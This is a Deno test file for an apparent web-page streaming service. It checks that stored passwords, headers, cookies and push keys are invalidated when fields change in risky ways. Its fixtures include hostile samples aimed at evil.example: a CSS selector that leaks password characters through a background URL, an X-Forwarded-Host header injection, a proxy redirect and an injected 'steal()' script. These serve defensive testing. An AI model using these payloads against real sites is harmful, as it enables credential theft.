/** Each stored secret against a change of each field, by every way on which a secret stays because it is not sent. */
import { strict as assert } from "node:assert";
import { secretProblems } from "../../../components/form/validation.ts";
import { ServiceError } from "../../../lib/errors.ts";
import { storedSettings, triedSettings } from "../../../lib/model/answers/trial_body.ts";
import { planImport } from "../../../lib/model/backup.ts";
import { changedStream } from "../../../lib/model/change.ts";
import { isPageField, isTriedField } from "../../../lib/model/page_settings.ts";
import { publicStream, type Stream, type StreamFields } from "../../../lib/model/schema.ts";
import { SECRET_FIELDS, type SecretField } from "../../../lib/model/secrets.ts";
import { aStream } from "../../support/fixture.ts";

const SECRETS: Record<SecretField, string> = {
  pass: "p4ss",
  extraHeaders: "X-Key: h3ader",
  extraCookies: "session=c00kie",
  pushKey: "k3y-of-the-push",
};

/** P, H, C, K: the secrets that have to be given again. */
const LETTERS: Record<SecretField, string> = {
  pass: "P",
  extraHeaders: "H",
  extraCookies: "C",
  pushKey: "K",
};

type Row = [from: unknown, to: unknown, lost: string];

const [PAGE, SSO, EVIL] = ["https://a.example/x", "https://sso.example", "https://evil.example"];
const PUSH = "rtmps://live.example/app";
const [ONE, TWO] = ["ab", "cd"].map((byte) => byte.repeat(32));

/** A new field needs its rows here, and its verdict in lib/model/kept_secrets.ts: else neither compiles. */
const ROWS: Record<keyof StreamFields, Row[]> = {
  name: [["A", "B", ""]],
  url: [
    [PAGE, "https://a.example/y?kiosk=1#top", ""],
    [PAGE, "https://A.example:443/x", ""],
    ["http://a.example/x", PAGE, ""],
    [PAGE, "http://a.example/x", "PHC"],
    [PAGE, "https://a.example:8443/x", "PHC"],
    [PAGE, "https://b.a.example/x", "PHC"],
    [PAGE, `${EVIL}/`, "PHC"],
    // a site of the login gets password and headers already, but no cookies
    [PAGE, `${SSO}/`, "C"],
  ],
  group: [["", "Ops", ""]],
  channelNumber: [[0, 7, ""]],
  channelLogo: [["", "https://evil.example/logo.png", ""]],
  morePages: [["", `${EVIL}/`, ""]],
  pageSeconds: [[30, 60, ""]],
  plan: [["", `daily 00:00-24:00 ${EVIL}/`, ""]],
  planTimeZone: [["", "Europe/Berlin", ""]],
  user: [["ops", "root", "P"], ["ops", "", ""], ["", "root", "P"]],
  pass: [[SECRETS.pass, "another", ""]],
  loginOrigins: [
    [SSO, `${SSO} ${EVIL}`, "PH"],
    [SSO, EVIL, "PH"],
    [SSO, "http://sso.example", "PH"],
    [SSO, "", ""],
    [`${SSO} https://id.example`, "https://id.example", ""],
  ],
  acceptedCertificates: [["", ONE, "PHC"], [ONE, `${ONE} ${TWO}`, "PHC"], [`${ONE} ${TWO}`, TWO, ""], [
    ONE,
    "",
    "",
  ]],
  acceptedStatuses: [["", "404", ""]],
  sites: [["", EVIL, ""]],
  webRtc: [[false, true, ""]],
  proxy: [
    ["", "http://evil.example:3128", "PHC"],
    ["direct", "http://evil.example:3128", "PHC"],
    ["http://a.example:1", "socks5://a.example:1", "PHC"],
    ["http://a.example:1", "direct", ""],
    ["http://a.example:1", "", ""],
    ["direct", "", ""],
  ],
  zoom: [[100, 500, ""]],
  css: [
    ["", "input[type=password][value^='S'] { background: url(https://evil.example/S) }", "PHC"],
    ["a { color: red }", "a { color: blue }", "PHC"],
    ["a { color: red }", "", ""],
  ],
  js: [["", "steal()", "PHC"], ["known()", "other()", "PHC"], ["known()", "", ""]],
  hideBanners: [[false, true, ""]],
  // who sees the channel sees which selector has hit
  hideSelectors: [
    ["", "html:has(input[type=password][value^='S'])", "PHC"],
    ["#a\n#b", "#b\n#c", "PHC"],
    ["#a\n#b", "#b", ""],
    ["#a", "", ""],
  ],
  userAgent: [["", "Wall 1.0", ""]],
  language: [["", "de-DE", ""]],
  timeZone: [["", "Europe/Berlin", ""]],
  colorScheme: [["auto", "dark", ""]],
  extensions: [["", "reader", "PHC"], ["dark reader", "reader", ""], ["dark", "", ""]],
  // servers build addresses of scripts from X-Forwarded-Host
  extraHeaders: [[SECRETS.extraHeaders, "X-Forwarded-Host: evil.example", "PC"], [
    SECRETS.extraHeaders,
    "",
    "",
  ]],
  extraCookies: [[SECRETS.extraCookies, "session=evil", "PH"], [SECRETS.extraCookies, "", ""]],
  delay: [[15, 0, ""]],
  resolution: [["1280x720", "1920x1080", ""]],
  scale: [["1280x720", "640x360", ""]],
  fps: [[25, 5, ""]],
  bitrate: [["1500k", "4M", ""]],
  bufsize: [["1500k", "4M", ""]],
  preset: [["superfast", "fast", ""]],
  tune: [["zerolatency", "film", ""]],
  gop: [[0, 50, ""]],
  threads: [[1, 2, ""]],
  memoryLimitMb: [[1500, 3000, ""]],
  gpu: [[false, true, ""]],
  audio: [[true, false, ""]],
  whileBroken: [["last", "page", ""]],
  onDemand: [[false, true, ""]],
  onDemandMinutes: [[5, 9, ""]],
  rewind: [[false, true, ""]],
  rewindFor: [["operators", "viewers", ""]],
  pushTo: [
    [PUSH, "rtmps://LIVE.example:443/app", ""],
    [PUSH, "rtmps://evil.example/app", "K"],
    [PUSH, "rtmps://live.example:444/app", "K"],
    [PUSH, "rtmp://live.example:443/app", "K"],
    [PUSH, "rtmps://live.example/other", "K"],
    [PUSH, "rtmps://live.example/app/more", "K"],
    [PUSH, "srt://live.example:443", "K"],
    ["", PUSH, "K"],
    [PUSH, "", ""],
    ["srt://live.example:9000?streamid=a", "srt://live.example:9000?streamid=a&latency=200", ""],
    ["srt://live.example:9000?streamid=a", "srt://live.example:9000?streamid=b", "K"],
    ["srt://0.0.0.0:9000?mode=listener", "srt://[::]:9000?mode=listener", "K"],
  ],
  pushKey: [[SECRETS.pushKey, "another-key-of-it", ""]],
  autoReload: [[false, true, ""]],
  autoReloadInterval: [[30, 5, ""]],
};

/** What a person sets of a stream. */
function settingsOf(stream: Stream): Record<string, unknown> {
  const secrets: readonly string[] = SECRET_FIELDS;
  return Object.fromEntries(
    Object.entries(stream).filter(([field]) => Object.hasOwn(ROWS, field) && !secrets.includes(field)),
  );
}

const without = (action: () => unknown): string[] => {
  try {
    action();
    return [];
  } catch (error) {
    assert.ok(error instanceof ServiceError && error.fields, String(error));
    return Object.keys(error.fields);
  }
};

/** By every way: the secrets that are lost, or have to be given again. */
const WAYS: Record<string, (stored: Stream, field: string, to: unknown) => string[]> = {
  PATCH: (stored, field, to) => without(() => changedStream(stored, { [field]: to }, true)),
  PUT: (stored, field, to) => {
    const { id: _, ...body } = settingsOf(stored);
    return without(() => changedStream(stored, { ...body, [field]: to }, false));
  },
  import: (stored, field, to) => {
    const { streams: [after] } = planImport([{ ...publicStream(stored), [field]: to }], [stored]);
    return SECRET_FIELDS.filter((secret) => secret !== field && after[secret] === "");
  },
  form: (stored, field, to) => {
    const secrets = Object.fromEntries(SECRET_FIELDS.map((secret) => [secret, undefined]));
    return Object.keys(
      secretProblems({ ...settingsOf(stored), ...secrets, [field]: to }, publicStream(stored)),
    );
  },
};

Deno.test("a stored secret stays when nothing but harmless fields change, and is to be given again otherwise", () => {
  const wrong: string[] = [];
  for (const [field, rows] of Object.entries(ROWS)) {
    for (const [from, to, lost] of rows) {
      const stored = aStream({
        url: PAGE,
        loginOrigins: SSO,
        user: "ops",
        pushTo: PUSH,
        ...SECRETS,
        [field]: from,
      });
      for (const [way, lostBy] of Object.entries(WAYS)) {
        const found = lostBy(stored, field, to).map((secret) => LETTERS[secret as SecretField] ?? secret);
        const letters = Object.values(LETTERS).filter((letter) => found.includes(letter)).join("");
        if (letters !== lost || found.length !== letters.length) {
          wrong.push(`${way}, ${field}: ${from} -> ${to}: ${found}, not ${lost}`);
        }
      }
    }
  }
  assert.deepEqual(wrong, []);
});

Deno.test("a page is tried with the stored headers and cookies only while nothing but harmless fields change", () => {
  const wrong: string[] = [];
  for (const [field, rows] of Object.entries(ROWS)) {
    if (!isTriedField(field) && field !== "url") continue;
    for (const [from, to, lost] of rows) {
      const stored = aStream({ url: PAGE, loginOrigins: SSO, ...SECRETS, [field]: from });
      const { url, ...others } = { ...settingsOf(stored), [field]: to } as Record<string, unknown>;
      const { settings } = storedSettings(stored, triedSettings(others), String(url));
      const kept = SECRET_FIELDS.filter((secret) => secret !== field && isPageField(secret));
      const found = kept.filter((secret) => settings[secret] === undefined).map((secret) => LETTERS[secret]);
      const expected = [...lost].filter((letter) => letter === "H" || letter === "C").join("");
      if (found.join("") !== expected) wrong.push(`${field}: ${from} -> ${to}: ${found}, not ${expected}`);
    }
  }
  assert.deepEqual(wrong, []);
});

Deno.test("without TLS another way to the page may lead to another server", () => {
  const plain = aStream({ url: "http://a.lan/", proxy: "http://proxy.lan:1", ...SECRETS, pushKey: "" });
  for (const proxy of ["direct", ""]) {
    assert.deepEqual(without(() => changedStream(plain, { proxy }, true)), [
      "pass",
      "extraHeaders",
      "extraCookies",
    ]);
  }
});

Deno.test("what a first change removes, a second one does not bring back", () => {
  const steps: [first: Partial<StreamFields>, second: Partial<StreamFields>][] = [
    [{ loginOrigins: "" }, { loginOrigins: SSO }],
    [{ user: "" }, { user: "root" }],
    [{ pushTo: "" }, { pushTo: "rtmp://evil.example/app" }],
    [{ css: "" }, { css: "a {}" }],
    [{ url: PAGE }, { url: "http://a.example/x" }],
    [{ proxy: "" }, { proxy: "http://proxy.example:1" }],
  ];
  for (const [first, second] of steps) {
    const stored = aStream({
      url: "http://a.example/x",
      loginOrigins: SSO,
      user: "ops",
      pushTo: PUSH,
      css: "a {}",
      ...SECRETS,
      ...("proxy" in first ? { url: PAGE, proxy: "http://proxy.example:1" } : {}),
    });
    const once = changedStream(stored, first, true);
    assert.notDeepEqual(without(() => changedStream(once, second, true)), [], JSON.stringify(second));
  }
});
